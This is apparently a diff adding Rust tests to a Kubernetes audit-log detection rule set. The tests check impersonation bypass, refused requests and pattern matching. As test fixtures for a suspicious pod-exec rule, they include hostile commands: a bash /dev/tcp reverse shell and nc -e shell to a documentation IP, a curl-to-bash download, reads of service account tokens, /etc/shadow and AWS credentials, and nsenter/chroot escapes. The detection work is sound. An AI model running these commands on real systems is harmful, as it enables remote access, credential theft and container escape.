@@ -206,3 +206,327 @@ fn built_in_rules_are_the_files() {
     assert!(alert.message.contains("169.254.169.254"), "{}", alert.message);
     assert!(!alert.message.contains('{'), "{}", alert.message);
 }
+
+/// An event with some members replaced, each at a JSON pointer whose parent exists.
+fn edited(event: &str, changes: &[(&str, serde_json::Value)]) -> String {
+    let mut value: serde_json::Value = serde_json::from_str(event).expect("a fixture is JSON");
+    for (pointer, new) in changes {
+        let (parent, key) = pointer.rsplit_once('/').expect("a pointer");
+        let parent =
+            value.pointer_mut(parent).unwrap_or_else(|| panic!("{pointer} has no parent in {event}"));
+        match parent {
+            serde_json::Value::Object(object) => drop(object.insert(key.to_owned(), new.clone())),
+            serde_json::Value::Array(items) => items[key.parse::<usize>().expect("an index")] = new.clone(),
+            _ => panic!("{pointer} leads into neither object nor array"),
+        }
+    }
+    value.to_string()
+}
+
+/// User names that a rule leaves out by itself: its filters that look at nothing but `user.username`.
+fn names_left_out(documents: &[Value]) -> Vec<String> {
+    let mut names = Vec::new();
+    for detection in documents.iter().filter_map(|document| document.get("detection")?.as_mapping()) {
+        for (key, filter) in detection {
+            let is_filter = key.as_str().is_some_and(|key| key.starts_with("filter_"));
+            let Some(lines) = filter.as_mapping().filter(|_| is_filter) else { continue };
+            let texts = |name: &str| -> Vec<String> {
+                match lines.get(name) {
+                    Some(Value::String(text)) => vec![text.clone()],
+                    Some(Value::Sequence(items)) => {
+                        items.iter().filter_map(Value::as_str).map(str::to_owned).collect()
+                    }
+                    _ => vec![],
+                }
+            };
+            let (exact, starts, ends) =
+                (texts("user.username"), texts("user.username|startswith"), texts("user.username|endswith"));
+            let known = usize::from(!exact.is_empty())
+                + usize::from(!starts.is_empty())
+                + usize::from(!ends.is_empty());
+            if lines.len() != known {
+                continue;
+            }
+            names.extend(exact);
+            let end = ends.first().map_or("x", String::as_str);
+            names.extend(starts.iter().map(|start| format!("{start}{end}")));
+        }
+    }
+    names
+}
+
+/// Who is left out is left out, and nobody gets there by borrowing the name.
+#[test]
+fn filters_go_by_who_authenticated() {
+    let rules = builtin();
+    let (mut faults, mut tried) = (Vec::new(), 0);
+    for (rule, documents) in files() {
+        for name in names_left_out(&documents) {
+            tried += 1;
+            let hit = events(&rule, "hit");
+            let by_them: Vec<String> =
+                hit.iter().map(|event| edited(event, &[("/user/username", name.as_str().into())])).collect();
+            if fired(&alerts(&rules, &by_them), &rule) > 0 {
+                faults.push(format!("{rule} fires on {name}, which it means to leave out"));
+            }
+            let in_their_name: Vec<String> = hit
+                .iter()
+                .map(|event| edited(event, &[("/impersonatedUser", serde_json::json!({"username": name}))]))
+                .collect();
+            if fired(&alerts(&rules, &in_their_name), &rule) == 0 {
+                faults.push(format!("{rule} is silenced by impersonating {name}"));
+            }
+        }
+    }
+    assert!(faults.is_empty(), "{}", faults.join("\n"));
+    assert!(tried > 100, "only {tried} names were tried");
+}
+
+/// A request that is still on its way, or failed, is no finding of a rule about what was done.
+#[test]
+fn refused_requests_fire_no_rule_about_what_was_done() {
+    let rules = builtin();
+    // Rules about trying, or about who it is, whatever the answer.
+    const ANY_ANSWER: &[&str] = &[
+        "anonymous-probing",
+        "attack-tool-client",
+        "authentication-failures",
+        "authorization-denials-by-actor",
+        "authorization-denials-by-address",
+        "authorization-denials-many-identities",
+        "break-glass-identity-used",
+        "denied-resource-enumeration",
+        "impersonate-privileged",
+        "impersonate-user",
+        "permission-listing",
+        "secret-bodies-audited",
+        "secret-reads-denied",
+        "token-used-by-script",
+    ];
+    for rule in files().into_keys() {
+        let hit = events(&rule, "hit");
+        let received: Vec<String> =
+            hit.iter().map(|event| edited(event, &[("/stage", "RequestReceived".into())])).collect();
+        assert_eq!(fired(&alerts(&rules, &received), &rule), 0, "{rule} fires on RequestReceived");
+        let refused: Vec<String> =
+            hit.iter().map(|event| edited(event, &[("/responseStatus/code", 403.into())])).collect();
+        let fires = fired(&alerts(&rules, &refused), &rule) > 0;
+        let may = ANY_ANSWER.contains(&rule.as_str());
+        assert!(!fires || may, "{rule} fires on refused requests");
+    }
+}
+
+/// Values on both sides of the patterns that are easiest to get wrong.
+#[test]
+fn patterns_mean_what_they_say() {
+    let rules = builtin();
+    let check = |rule: &str,
+                 event: usize,
+                 pointer: &str,
+                 make: &dyn Fn(&str) -> String,
+                 hits: &[&str],
+                 misses: &[&str]| {
+        let hit = events(rule, "hit").swap_remove(event);
+        for (values, expected) in [(hits, 1), (misses, 0)] {
+            for value in values {
+                let event = edited(&hit, &[(pointer, make(value).into())]);
+                assert_eq!(fired(&alerts(&rules, &[event]), rule), expected, "{rule} on {value:?}");
+            }
+        }
+    };
+    let as_is = |text: &str| text.to_owned();
+    check(
+        "host-path-sensitive",
+        0,
+        "/requestObject/spec/volumes/1/hostPath/path",
+        &as_is,
+        &[
+            "/",
+            "//",
+            "/etc",
+            "/etc/",
+            "/etc/kubernetes/pki",
+            "/root/.ssh",
+            "/proc",
+            "/sys/fs/cgroup",
+            "/dev/sda",
+            "/home/core",
+            "/var",
+            "/var/run/",
+            "/var/run/docker.sock",
+            "/run/containerd/containerd.sock",
+            "/run/secrets",
+            "/var/lib/kubelet",
+            "/var/lib/etcd/member",
+            "/var/log",
+            "/usr",
+            "//etc/shadow",
+        ],
+        &[
+            "/srv",
+            "/mnt/data",
+            "/data",
+            "/usr/local",
+            "/etcd",
+            "/rooted",
+            "/var/lib/postgresql",
+            "/var/log/pods",
+            "/var/libs",
+            "/opt/local-path-provisioner",
+            "/devices",
+            "/run/flannel",
+            "/homes/etc",
+        ],
+    );
+    let command = |text: &str| {
+        let words: Vec<String> = text
+            .split('\u{1f}')
+            .map(|word| {
+                let coded: String = word.bytes().map(|byte| format!("%{byte:02X}")).collect();
+                format!("command={coded}")
+            })
+            .collect();
+        format!(
+            "/api/v1/namespaces/patients/pods/portal-0/exec?{}&container=portal&stdout=true",
+            words.join("&")
+        )
+    };
+    check(
+        "pod-exec-shell",
+        0,
+        "/requestURI",
+        &command,
+        &["sh", "bash", "/bin/sh\u{1f}-c\u{1f}id", "/usr/bin/env bash", "zsh\u{1f}-i", "ash", "busybox sh"],
+        &["shutdown", "ls\u{1f}/bin/sh", "/app/publish.sh", "push", "ssh-keygen", "bashcov"],
+    );
+    check(
+        "pod-exec-suspicious-command",
+        0,
+        "/requestURI",
+        &command,
+        &[
+            "bash\u{1f}-c\u{1f}bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
+            "nc\u{1f}-e\u{1f}/bin/sh\u{1f}198.51.100.7\u{1f}4444",
+            "ncat\u{1f}-lvnp\u{1f}4444\u{1f}-c\u{1f}sh",
+            "cat\u{1f}/var/run/secrets/kubernetes.io/serviceaccount/token",
+            "cat\u{1f}/etc/shadow",
+            "cat\u{1f}/home/app/.aws/credentials",
+            "nsenter\u{1f}--target\u{1f}1\u{1f}--mount",
+            "chroot\u{1f}/host",
+            "sh\u{1f}-c\u{1f}curl -s https://198.51.100.7/x | bash",
+            "sh\u{1f}-c\u{1f}echo aWQ= | base64 -d | sh",
+            "curl\u{1f}-H\u{1f}Metadata-Flavor: Google\u{1f}http://metadata.google.internal/",
+            "cat\u{1f}/proc/1/environ",
+            "ls\u{1f}/var/run/docker.sock",
+        ],
+        &[
+            "ls\u{1f}-la\u{1f}/srv/app",
+            "cat\u{1f}/etc/hosts",
+            "curl\u{1f}-s\u{1f}http://127.0.0.1:8080/healthz",
+            "sh\u{1f}-c\u{1f}env | sort",
+            "nc\u{1f}-z\u{1f}db\u{1f}5432",
+            "pg_dump\u{1f}portal",
+            "cat\u{1f}/proc/meminfo",
+            "psql\u{1f}-c\u{1f}select 1",
+        ],
+    );
+    check(
+        "pod-file-copy",
+        0,
+        "/requestURI",
+        &command,
+        &[
+            "tar\u{1f}cf\u{1f}-\u{1f}/srv",
+            "tar\u{1f}xmf\u{1f}-\u{1f}-C\u{1f}/tmp",
+            "/bin/tar\u{1f}-xf\u{1f}-",
+        ],
+        &["tar\u{1f}tf\u{1f}-", "tar\u{1f}cf\u{1f}/tmp/a.tar\u{1f}/srv", "start\u{1f}cf\u{1f}-"],
+    );
+    check(
+        "anonymous-access-allowed",
+        0,
+        "/requestURI",
+        &as_is,
+        &[
+            "/api/v1/pods",
+            "/",
+            "/api",
+            "/versions",
+            "/healthzz",
+            "/metrics",
+            "/api/v1/namespaces/x/pods?a=/livez",
+        ],
+        &[
+            "/healthz",
+            "/livez?exclude=etcd",
+            "/readyz/ping",
+            "/version",
+            "/version/",
+            "/version?timeout=32s",
+            "/.well-known/openid-configuration",
+            "/openid/v1/jwks",
+        ],
+    );
+    check(
+        "node-proxy",
+        1,
+        "/requestURI",
+        &as_is,
+        &[
+            "/api/v1/nodes/worker-3/proxy/pods",
+            "/api/v1/nodes/worker-3/proxy/logs/",
+            "/api/v1/nodes/worker-3/proxy/run/a/b/c?cmd=/proxy/metrics",
+            "/api/v1/nodes/worker-3/proxy/metrics/../configz",
+        ],
+        &[
+            "/api/v1/nodes/worker-3/proxy/metrics",
+            "/api/v1/nodes/worker-3/proxy/metrics/resource",
+            "/api/v1/nodes/worker-3/proxy/stats/summary?only_cpu_and_memory=true",
+            "/api/v1/nodes/worker-3/proxy/healthz",
+        ],
+    );
+    // Only the selector that the server obeys may silence: the first, and spelt as a parameter of its own.
+    check(
+        "secrets-listed-cluster-wide",
+        0,
+        "/requestURI",
+        &as_is,
+        &[
+            "/api/v1/secrets?limit=500",
+            "/api/v1/secrets?limit=500&note=labelSelector=owner%3Dhelm",
+            "/api/v1/secrets?labelSelector=a&labelSelector=owner%3Dhelm",
+            "/api/v1/secrets?labelSelector=owner%3Dhelmet",
+            "/api/v1/secrets?labelSelector=owner%21%3Dhelm",
+        ],
+        &[
+            "/api/v1/secrets?labelSelector=owner%3Dhelm",
+            "/api/v1/secrets?labelSelector=owner%3Dhelm%2Cstatus%3Ddeployed&limit=500",
+            "/api/v1/secrets?limit=500&labelSelector=name%3Dportal%2Cowner%3Dhelm",
+        ],
+    );
+    let config = |text: &str| text.to_owned();
+    check(
+        "configmap-credentials",
+        0,
+        "/requestObject/data/application.properties",
+        &config,
+        &[
+            "spring.datasource.password=correct-horse",
+            "DB_PASSWORD: correct-horse",
+            "{\"password\": \"correct-horse\"}",
+            "aws_access_key_id = AKIAIOSFODNN7EXAMPLE",
+            "-----BEGIN RSA PRIVATE KEY-----\nMIIE",
+            "-----BEGIN PRIVATE KEY-----",
+            "client_secret=8f7d6c5b4a",
+        ],
+        &[
+            "password=${DB_PASSWORD}",
+            "password_min_length=12",
+            "password:",
+            "-----BEGIN CERTIFICATE-----",
+            "passwordless=true",
+            "reset-password.url=https://clinic.example/reset",
+            "password = <see vault>",
+        ],
+    );
+}
